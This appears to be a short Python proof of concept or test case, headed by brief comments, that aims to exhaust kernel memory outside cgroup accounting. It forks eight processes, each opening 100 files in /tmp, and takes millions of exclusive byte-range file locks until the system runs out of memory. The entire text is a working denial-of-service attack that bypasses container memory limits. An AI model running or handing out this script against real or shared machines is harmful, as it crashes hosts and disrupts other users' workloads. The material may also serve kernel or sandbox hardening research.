#: takes the kernel's memory by file locks, which no cgroup counts
#: ends oom
#: says
import fcntl, os
for child in range(8):
    if os.fork() == 0: break
fds = [os.open(f'/tmp/{os.getpid()}-{at}', os.O_RDWR | os.O_CREAT) for at in range(100)]
for at in range(0, 1 << 30, 2):
    for fd in fds: fcntl.lockf(fd, fcntl.LOCK_EX, 1, at)
